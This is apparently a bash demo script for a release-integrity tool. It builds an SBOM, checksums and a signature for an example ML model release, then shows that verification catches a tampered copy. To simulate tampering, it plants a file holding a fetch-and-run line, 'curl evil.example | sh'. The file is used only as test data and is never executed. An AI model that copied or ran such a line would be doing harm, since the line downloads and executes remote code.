#!/usr/bin/env bash
# releasekit sbom / checksums / sign / verify on a copy of the example release:
#  1. an SPDX 2.3 SBOM (validated by spdx-tools), a CycloneDX 1.6 ML-BOM, SHA256SUMS, and an
#     OpenSSF model-signing signature made with a P-256 key generated here for the demo (in
#     $DEMO_DIR/keys, never committed); one hashing pass serves all four (the digest cache);
#  2. `sha256sum -c` accepts SHA256SUMS; `verify` passes on a downloaded copy;
#  3. a copy with one flipped byte, a renamed file and an added file: `verify` exits 1, one line each.
set -euo pipefail
source "$(dirname "$0")/../demo_step.sh"
export RELEASEKIT_CACHE_DIR="$DEMO_DIR/cache"   # the digest cache: outside the release, never published

release="$DEMO_DIR/example-signed"
keys="$DEMO_DIR/keys"
rm -rf "$release" "$keys" "$DEMO_DIR/example-download" "$DEMO_DIR/example-tampered"
cp -r "$example" "$release"
mkdir -p "$keys"
python - "$keys" <<'PY'
import sys
from pathlib import Path
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
key = ec.generate_private_key(ec.SECP256R1())
folder = Path(sys.argv[1])
(folder / "private.pem").write_bytes(key.private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
(folder / "public.pem").write_bytes(key.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
PY
chmod 600 "$keys/private.pem"

echo "\$ releasekit sbom example-signed                      # SPDX 2.3"
releasekit sbom "$release"
echo "\$ releasekit sbom example-signed --format cyclonedx   # CycloneDX 1.6 ML-BOM"
releasekit sbom "$release" --format cyclonedx
echo "\$ releasekit checksums example-signed"
releasekit checksums "$release"
echo "\$ releasekit sign example-signed --key keys/private.pem"
releasekit sign "$release" --key "$keys/private.pem"
python - "$release" <<'PY'
import json, sys
from pathlib import Path
doc = json.loads((Path(sys.argv[1]) / "release.spdx.json").read_text())
kinds = {}
for r in doc["relationships"]:
    kinds[r["relationshipType"]] = kinds.get(r["relationshipType"], 0) + 1
print(f"SPDX: {len(doc['files'])} files, package license {doc['packages'][0]['licenseConcluded']}, "
      f"relationships {dict(sorted(kinds.items()))}")
bom = json.loads((Path(sys.argv[1]) / "release.cdx.json").read_text())
card = bom["metadata"]["component"]["modelCard"]["modelParameters"]
print(f"CycloneDX: model card task={card.get('task')} architecture={card.get('modelArchitecture')}")
PY
echo "\$ (cd example-signed && sha256sum -c --quiet SHA256SUMS)"
(cd "$release" && sha256sum -c --quiet SHA256SUMS) || fail "sha256sum -c rejected SHA256SUMS"
echo "sha256sum: all OK"

download="$DEMO_DIR/example-download"
cp -r "$release" "$download"
echo "\$ releasekit verify example-download --key keys/public.pem   # an untouched copy"
releasekit verify "$download" --key "$keys/public.pem"

tampered="$DEMO_DIR/example-tampered"
cp -r "$release" "$tampered"
python - "$tampered/model-00001-of-00002.safetensors" <<'PY'
import sys
with open(sys.argv[1], "r+b") as handle:
    handle.seek(4096)
    byte = handle.read(1)
    handle.seek(4096)
    handle.write(bytes([byte[0] ^ 0x01]))
PY
mv "$tampered/train/train.py" "$tampered/train/train_final.py"
echo 'import os; os.system("curl evil.example | sh")' > "$tampered/inference/helper.py"
echo "\$ releasekit verify example-tampered --key keys/public.pem   # a flipped byte, a rename, an added file: expect exit 1"
set +e
releasekit verify "$tampered" --key "$keys/public.pem"
code=$?
set -e
[ "$code" -eq 1 ] || fail "expected exit 1 for the tampered copy, got $code"
echo "tampering caught"
